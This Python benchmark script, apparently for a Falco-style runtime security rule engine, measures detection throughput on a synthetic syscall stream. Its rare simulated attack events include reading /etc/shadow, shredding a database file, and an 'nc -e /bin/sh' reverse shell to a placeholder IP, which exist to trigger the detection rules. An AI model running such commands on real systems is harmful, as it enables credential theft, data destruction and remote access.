"""Rule engine throughput: events/s on one core for a realistic mixed stream, beside a decode-only baseline.

The stream (deterministic, seed 42) is what a host running a web server, a database client and some shell
work produces once the sensor has filtered to the syscalls the rules need:

    openat 45% (library and config reads, /proc reads, /tmp writes, log appends, 5% failed opens)
    execve 15% (ls, cat, grep, git, python3, sh -c, ... on the host and in containers)
    connect 15% (private database, public HTTPS, loopback cache)
    sendto/sendmsg 10% (UDP DNS)    socket 5%    dup2 3%    close 4%    clone 3%
    about 0.2% malicious (cat /etc/shadow, shred, nc -e in a container), so outputs are rendered too.

Figures, each against the same pre-decoded events, single thread:
- baseline: decoding only (JSON line -> Event, the replay/capture path);
- engine.process() against (a) Falconet's default rules, (b) the upstream stable file, (c) all three
  current upstream files, with rule_matching=first;
- for each, the cost per event split into field extraction (the extractor calls a pass really makes,
  recorded and replayed alone), output formatting (rendering the alerts of a pass) and rule evaluation
  (the rest: closures, type index, short-circuit logic).

Run: python -m bench.engine [--seconds S] [--events N]
"""

from __future__ import annotations

import argparse
import dataclasses
import gc
import json
import os
import random
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from falconet.rules import DEFAULT_RULES
from falconet.rules.compiler import BoundRef, bind_field
from falconet.rules.engine import Engine, Resolvers, _default_compile_output
from falconet.model.event import Event
from falconet.rules.loader import Loader

REPO = Path(__file__).resolve().parents[1]
UPSTREAM = REPO.parent / "shared" / "upstream-rules" / "current"
STABLE = UPSTREAM / "falco_rules.yaml"
ALL_UPSTREAM = [STABLE, UPSTREAM / "falco-incubating_rules.yaml", UPSTREAM / "falco-sandbox_rules.yaml"]
RESOLVERS = Resolvers(
    hostname=lambda: "bench-host", dns=lambda name: ["10.96.0.1"] if "kubernetes" in name else []
)

# --- the stream -----------------------------------------------------------------------------------------------

_HOST_PROCS = [
    ("bash", "/usr/bin/bash", ["sshd", "systemd"], 1000, "alice"),
    ("python3", "/usr/bin/python3.11", ["bash", "sshd", "systemd"], 1000, "alice"),
    ("nginx", "/usr/sbin/nginx", ["nginx", "systemd"], 33, "www-data"),
    ("postgres", "/usr/lib/postgresql/15/bin/postgres", ["postgres", "systemd"], 112, "postgres"),
    ("node", "/usr/bin/node", ["npm", "bash", "sshd", "systemd"], 1000, "alice"),
    ("systemd-journal", "/usr/lib/systemd/systemd-journald", ["systemd"], 0, "root"),
    ("cron", "/usr/sbin/cron", ["systemd"], 0, "root"),
    ("containerd", "/usr/bin/containerd", ["systemd"], 0, "root"),
]
_CONTAINERS = [
    {
        "id": "3ad7b26ded6d",
        "name": "web",
        "image": "nginx:1.25",
        "image_repository": "docker.io/library/nginx",
    },
    {
        "id": "91c0ffee1234",
        "name": "api",
        "image": "python:3.12",
        "image_repository": "docker.io/library/python",
    },
]
_EXECS = [
    ("ls", ["-la"]), ("cat", ["README.md"]), ("grep", ["-r", "TODO", "src"]), ("git", ["status"]),
    ("python3", ["manage.py", "migrate"]), ("sh", ["-c", "date"]), ("sed", ["-i", "s/a/b/", "x.txt"]),
    ("curl", ["-s", "https://example.com"]), ("id", []), ("ps", ["aux"]), ("uname", ["-a"]),
]  # fmt: skip
_READS = [
    "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache", "/proc/self/stat", "/etc/hosts",
    "/etc/passwd", "/etc/nsswitch.conf", "/usr/share/zoneinfo/UTC", "/var/lib/app/data.db",
    "/home/alice/src/main.py", "/etc/ssl/certs/ca-certificates.crt", "/proc/meminfo", "/sys/fs/cgroup/cpu.max",
]  # fmt: skip
_WRITES = ["/tmp/tmp.x8f2", "/var/log/app/app.log", "/home/alice/src/out.txt", "/var/lib/app/data.db-wal"]


def _proc(rng: random.Random, name: str | None = None, args: list[str] | None = None) -> dict[str, Any]:
    pname, exepath, ancestors, uid, user = rng.choice(_HOST_PROCS)
    if name is not None:
        pname, exepath = name, f"/usr/bin/{name}"
    parent: dict[str, Any] | None = None
    pid = 100
    for anc in reversed(ancestors):
        node: dict[str, Any] = {
            "pid": pid,
            "ppid": pid - 1,
            "name": anc,
            "exe": anc,
            "exepath": f"/usr/bin/{anc}",
        }
        if parent is not None:
            node["parent"] = parent
        parent = node
        pid += 1
    proc: dict[str, Any] = {
        "pid": 4000 + rng.randrange(500), "ppid": pid - 1, "name": pname, "exe": pname, "exepath": exepath,
        "args": args or [], "cwd": "/home/alice", "tty": 34816 if pname == "bash" else 0,
        "start_ts": 1_699_999_000_000_000_000, "user": {"uid": uid, "name": user, "loginuid": uid if uid else -1},
        "group": {"gid": uid, "name": user},
    }  # fmt: skip
    if parent is not None:
        proc["parent"] = parent
    return proc


def _event(rng: random.Random, num: int) -> dict[str, Any]:
    """One synthetic event of the benchmark's mix; a flat table of cases, kept together so the mix's
    proportions can be read (and changed) in one place."""
    r = rng.random()
    ts = 1_700_000_000_000_000_000 + num * 1000
    ev: dict[str, Any] = {
        "num": num,
        "ts": ts,
        "tid": 4000,
        "res": 0,
        "args": {},
        "container": {"id": "host"},
    }
    in_container = rng.random() < 0.2
    if in_container:
        ev["container"] = dict(rng.choice(_CONTAINERS))
    if r < 0.45:
        ev["type"] = "openat"
        ev["proc"] = _proc(rng)
        failed = rng.random() < 0.05
        if rng.random() < 0.8:
            path, flags = rng.choice(_READS), 0
        else:
            path, flags = rng.choice(_WRITES), rng.choice([1 | 64 | 512, 1 | 1024 | 64])
        ev["args"] = {"dirfd": -100, "name": path, "flags": flags, "mode": 0o644}
        if failed:
            ev["res"] = -2
            ev["fd"] = {"num": -1, "type": "file", "name": path, "nameraw": path}
        else:
            ev["res"] = 3 + rng.randrange(20)
            ev["fd"] = {"num": ev["res"], "type": "file", "name": path, "nameraw": path}
    elif r < 0.60:
        name, args = rng.choice(_EXECS)
        ev["type"] = "execve"
        ev["proc"] = _proc(rng, name, list(args))
    elif r < 0.75:
        ev["type"] = "connect"
        ev["proc"] = _proc(rng)
        sip, sport = rng.choice([("10.0.3.7", 5432), ("93.184.216.34", 443), ("127.0.0.1", 6379)])
        ev["res"] = rng.choice([0, 0, 0, -115])
        ev["fd"] = {"num": 5, "type": "ipv4", "l4proto": "tcp", "sockfamily": "ip", "cip": "10.0.3.2",
                    "cport": 40000 + rng.randrange(2000), "sip": sip, "sport": sport, "connected": True}  # fmt: skip
    elif r < 0.85:
        ev["type"] = rng.choice(["sendto", "sendmsg"])
        ev["proc"] = _proc(rng)
        ev["res"] = 40
        ev["fd"] = {"num": 6, "type": "ipv4", "l4proto": "udp", "sockfamily": "ip", "cip": "10.0.3.2",
                    "cport": 50000 + rng.randrange(1000), "sip": rng.choice(["10.0.0.2", "8.8.8.8"]), "sport": 53,
                    "connected": True}  # fmt: skip
    elif r < 0.90:
        ev["type"] = "socket"
        ev["proc"] = _proc(rng)
        ev["res"] = 7
        ev["args"] = {"domain": rng.choice([2, 1, 10]), "type": 1, "proto": 0}
    elif r < 0.93:
        ev["type"] = "dup2"
        ev["proc"] = _proc(rng)
        ev["res"] = 1
        ev["args"] = {"oldfd": 3, "newfd": 1}
        ev["fd"] = {"num": 3, "type": "file", "name": "/tmp/out.log"}
    elif r < 0.97:
        ev["type"] = "close"
        ev["proc"] = _proc(rng)
        ev["args"] = {"fd": 3}
    else:
        ev["type"] = "clone"
        ev["proc"] = _proc(rng)
        ev["res"] = 5000
    if rng.random() < 0.002:  # the rare attack
        kind = rng.randrange(3)
        if kind == 0:
            ev.update(type="openat", res=3, args={"dirfd": -100, "name": "/etc/shadow", "flags": 0})
            ev["proc"] = _proc(rng, "cat", ["/etc/shadow"])
            ev["fd"] = {"num": 3, "type": "file", "name": "/etc/shadow", "nameraw": "/etc/shadow"}
        elif kind == 1:
            ev.update(type="execve", res=0, args={})
            ev["proc"] = _proc(rng, "shred", ["-u", "/var/lib/app/data.db"])
            ev.pop("fd", None)
        else:
            ev.update(type="execve", res=0, args={}, container=dict(_CONTAINERS[0]))
            ev["proc"] = _proc(rng, "nc", ["-e", "/bin/sh", "203.0.113.9", "4444"])
            ev.pop("fd", None)
    return ev


def make_stream(n: int, seed: int = 42) -> list[str]:
    rng = random.Random(seed)
    return [json.dumps(_event(rng, i + 1)) for i in range(n)]


# --- measuring ------------------------------------------------------------------------------------------------


# CPU time of this process, not wall time: on a shared machine wall time measures the neighbours too.
clock = time.process_time


def _rate(fn: Callable[[], int], seconds: float) -> float:
    """Items per CPU second of `fn` (which processes a batch and returns its size), over at least `seconds`."""
    fn()  # warm up (caches, the engine's per-type candidate tuples)
    done = 0
    gc.collect()
    start = clock()
    while True:
        done += fn()
        elapsed = clock() - start
        if elapsed >= seconds:
            return done / elapsed


def _call_ns() -> float:
    """Calibration: CPU ns of one trivial Python function call in a loop, so figures can be compared across
    machines and loads (about 35-45 ns on an idle modern x86 core)."""
    f = _calibration_target
    n = 1_000_000
    start = clock()
    for i in range(n):
        f(i)
    return (clock() - start) / n * 1e9


def _calibration_target(x: int) -> bool:
    return x == -1


def _engine(paths: list[Path], bind: Callable[[Any], BoundRef] | None = None) -> Engine:
    loader = Loader()
    for p in paths:
        loader.add_file(p)
    compile_output = _default_compile_output(RESOLVERS)
    ruleset = loader.compile(resolvers=RESOLVERS, compile_output=compile_output, bind=bind)
    if not ruleset.result.ok:
        raise SystemExit(ruleset.result.format())
    return Engine(ruleset, resolvers=RESOLVERS, compile_output=compile_output)


def _split(paths: list[Path], events: list[Event]) -> tuple[float, float, int]:
    """(extraction s, formatting s, alerts) for one pass over `events`."""
    calls: list[tuple[Callable[[Any], Any], Any]] = []
    record = calls.append

    def bind(ref: Any) -> BoundRef:
        bound = bind_field(ref, RESOLVERS)
        ex = bound.extract

        def recorded(e: Any, ex: Callable[[Any], Any] = ex) -> Any:
            record((ex, e))
            return ex(e)

        return dataclasses.replace(bound, extract=recorded)

    engine = _engine(paths, bind)
    alerts: list[tuple[Any, Any]] = []
    for ev in events:
        for alert in engine.process(ev):
            alerts.append((engine._active[alert.rule].render, ev))
    start = clock()
    for ex, e in calls:
        ex(e)
    extraction = clock() - start
    start = clock()
    for ex, e in calls:
        pass
    extraction -= clock() - start
    start = clock()
    for render, e in alerts:
        render(e)
    formatting = clock() - start
    return max(extraction, 0.0), formatting, len(alerts)


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.engine", description=__doc__.split("\n")[0])
    parser.add_argument("--seconds", type=float, default=2.0, help="measuring time per figure")
    parser.add_argument("--events", type=int, default=20_000, help="distinct events in the stream")
    args = parser.parse_args(argv)
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {sorted(os.sched_getaffinity(0))[0]})  # one core, as stated

    lines = make_stream(args.events)
    events = [Event.from_dict(json.loads(line)) for line in lines]
    types: dict[str, int] = {}
    for ev in events:
        types[ev.type] = types.get(ev.type, 0) + 1
    mix = ", ".join(
        f"{t} {100 * c / len(events):.0f}%" for t, c in sorted(types.items(), key=lambda kv: -kv[1])
    )
    print(f"stream: {len(events)} events ({mix}); Python {sys.version.split()[0]}, one core, CPU time")
    load = os.getloadavg()[0] if hasattr(os, "getloadavg") else float("nan")
    print(f"calibration: one trivial Python call = {_call_ns():.0f} ns (load average {load:.1f})")

    def decode() -> int:
        for line in lines:
            Event.from_dict(json.loads(line))
        return len(lines)

    base = _rate(decode, args.seconds)
    print(f"{'baseline: decode only (JSON line -> Event)':58s} {base:12,.0f} events/s   1.00x")

    configs = [
        ("default rules (rules/falconet_rules.yaml)", [Path(DEFAULT_RULES)]),
        ("upstream stable (falco_rules.yaml)", [STABLE]),
        ("all current upstream (stable+incubating+sandbox)", ALL_UPSTREAM),
    ]
    for label, paths in configs:
        engine = _engine(paths)

        def run(engine: Engine = engine) -> int:
            process = engine.process
            for ev in events:
                process(ev)
            return len(events)

        rate = _rate(run, args.seconds)
        extraction, formatting, alerts = _split(paths, events)
        per_event = 1.0 / rate
        ext_ns = extraction / len(events) * 1e9
        fmt_ns = formatting / len(events) * 1e9
        eval_ns = max(per_event * 1e9 - ext_ns - fmt_ns, 0.0)
        print(
            f"{'engine: ' + label:58s} {rate:12,.0f} events/s   {rate / base:.2f}x"
            f"   ({len(engine.enabled_rules)} rules, {alerts} alerts/pass)"
        )
        print(
            f"{'':58s} per event {per_event * 1e9:7.0f} ns = extraction {ext_ns:5.0f}"
            f" + evaluation {eval_ns:5.0f} + output {fmt_ns:4.0f}"
        )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
